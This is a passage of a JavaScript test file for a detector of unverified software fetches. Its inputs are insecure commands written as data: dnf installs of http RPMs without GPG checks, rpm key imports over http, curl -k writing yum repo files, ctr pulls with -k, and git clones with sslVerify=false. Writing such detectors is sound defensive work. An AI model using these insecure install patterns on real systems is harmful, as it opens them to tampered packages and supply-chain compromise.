        assert.strictEqual(packageCheckOffSwitches("dnf", ["install", "-y", "http://r/x.rpm"]).length, 2);
        assert.deepStrictEqual(
            packageCheckOffSwitches("dnf", ["install", "http://r/x.rpm"], { dnf: "[main]\nlocalpkg_gpgcheck=True" }),
            [],
        );
    });
    it("keys and repository files fetched unverified", () => {
        assert.deepStrictEqual(unverifiedSigningKeys("rpm", ["--import", "http://k/x.gpg"]), ["http://k/x.gpg"]);
        assert.deepStrictEqual(unverifiedSigningKeys("rpm", ["--import", "https://k/x.gpg"]), []);
        assert.strictEqual(
            unverifiedRepositoryFiles(["curl", "-ko", "/etc/yum.repos.d/x.repo", "https://r/x"], "/").length,
            1,
        );
        assert.deepStrictEqual(
            unverifiedRepositoryFiles(["curl", "-o", "/etc/yum.repos.d/x.repo", "https://r/x"], "/"),
            [],
        );
    });
    it("image pulls and git fetches with the server unverified", () => {
        assert.deepStrictEqual(imagePullTlsOff("ctr", ["-n", "k8s.io", "i", "pull", "-k", "r/x:1"]), ["-k"]);
        assert.deepStrictEqual(imagePullTlsOff("podman", ["pull", "--tls-verify=true", "r/x:1"]), []);
        assert.deepStrictEqual(
            gitUnverifiedFetch(["-c", "http.sslVerify=false", "clone", "https://g/x"], new Map(), undefined),
            ["-c http.sslVerify=false"],
        );
        assert.deepStrictEqual(gitUnverifiedFetch(["clone", "https://g/x"], new Map(), undefined), []);
    });
});
